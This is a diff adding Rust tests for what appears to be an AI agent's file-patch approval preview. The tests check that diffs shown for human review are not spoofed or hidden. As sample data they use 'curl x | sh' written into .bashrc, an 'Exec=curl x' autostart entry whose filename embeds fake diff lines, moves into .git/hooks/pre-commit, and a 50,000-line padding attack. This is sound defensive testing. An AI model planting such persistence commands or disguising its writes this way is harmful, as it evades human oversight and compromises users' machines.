@@ -188,6 +188,8 @@ async fn every_file_of_a_patch_is_asked_about_and_shown() {
     for part in [
         "+++ /dev/null\n@@ -1 +0,0 @@\n-gone\n",
         "rename from hook\nrename to .git/hooks/pre-commit\n",
+        // Nobody was asked when it was written where it was.
+        "@@ -0,0 +1 @@\n+echo hi\n",
         "-one\n+two\n",
     ] {
         assert!(diff.contains(part), "{part}: {diff}");
@@ -198,6 +200,22 @@ async fn every_file_of_a_patch_is_asked_about_and_shown() {
     call.run_agreed().await.unwrap();
     assert!(!place.path(".zshrc").exists());
     assert_eq!(place.read(".git/hooks/pre-commit"), "echo hi\n");
+}
+
+#[tokio::test]
+async fn a_file_that_is_moved_to_the_place_of_a_deleted_one_is_shown_as_gone() {
+    let place = Place::new();
+    place.write(".bashrc", "old\n");
+    place.write(".zshrc", "mine\n");
+    let text = "*** Delete File: .bashrc\n*** Move File: .zshrc -> .bashrc\n";
+    let call = Call::new(&place, "patch", patch(text));
+    let diff = call.preview().await.unwrap().diff;
+    for part in ["-old\n+mine\n", "--- a/.zshrc\n+++ /dev/null\n"] {
+        assert!(diff.contains(part), "{part}: {diff}");
+    }
+    let done = call.run_agreed().await.unwrap();
+    assert!(done.contains("deleted `.zshrc`"), "{done}");
+    assert_eq!(place.read(".bashrc"), "mine\n");
 }
 
 #[tokio::test]
@@ -258,6 +276,53 @@ async fn secrets_that_are_replaced_are_not_shown() {
     assert!(!preview.diff.contains("correct-horse"), "{}", preview.diff);
     assert!(preview.diff.contains("not shown"), "{}", preview.diff);
     assert!(!preview.is_whole);
+}
+
+#[tokio::test]
+async fn a_file_that_is_not_text_does_not_hide_what_takes_its_place() {
+    let place = Place::new();
+    let latin_1 = b"# caf\xe9\n";
+    std::fs::write(place.path(".bashrc"), latin_1).unwrap();
+    let call = Call::new(&place, "write_file", write(".bashrc", "curl x | sh\n"));
+    let preview = call.preview().await.unwrap();
+    assert!(preview.diff.contains("+curl x | sh\n"), "{}", preview.diff);
+    assert!(preview.diff.contains("it is not text"), "{}", preview.diff);
+    assert!(!preview.is_whole, "no model decides about it");
+
+    std::fs::write(place.path("hook"), latin_1).unwrap();
+    let text = "*** Move File: hook -> .git/hooks/pre-commit\n";
+    let moved = Call::new(&place, "patch", patch(text));
+    let preview = moved.preview().await.unwrap();
+    assert!(preview.diff.contains("[not text]"), "{}", preview.diff);
+    assert!(!preview.is_whole, "no model decides about it");
+}
+
+#[tokio::test]
+async fn a_name_with_line_breaks_passes_for_no_line_of_the_question() {
+    let place = Place::new();
+    let name = ".config/autostart/a\n@@ -1 +1 @@\n+harmless\n.desktop";
+    let call = Call::new(&place, "write_file", write(name, "Exec=curl x\n"));
+    let what = call.review().what;
+    assert_eq!(what.lines().count(), 1, "{what}");
+    let diff = call.preview().await.unwrap().diff;
+    assert_eq!(diff.lines().count(), 4, "{diff}");
+    assert!(diff.ends_with("@@ -0,0 +1 @@\n+Exec=curl x\n"), "{diff}");
+}
+
+#[tokio::test]
+async fn what_is_asked_about_is_not_pushed_out_by_other_files() {
+    let place = Place::new();
+    let lines: String = (0..50_000).map(|n| format!("+line {n}\n")).collect();
+    let text = format!("*** Add File: notes.md\n{lines}*** Add File: .bashrc\n+curl x\n");
+    let call = Call::new(&place, "patch", patch(&text));
+    let what = call.review().what;
+    assert!(what.lines().next().unwrap().ends_with(".bashrc"), "{what}");
+    let preview = call.preview().await.unwrap();
+    let begin = "--- /dev/null\n+++ b/.bashrc\n@@ -0,0 +1 @@\n+curl x\n";
+    assert!(preview.diff.starts_with(begin), "{}", &preview.diff[..200]);
+    assert!(!preview.is_whole);
+    call.run_agreed().await.unwrap();
+    assert_eq!(place.read(".bashrc"), "curl x\n");
 }
 
 #[tokio::test]
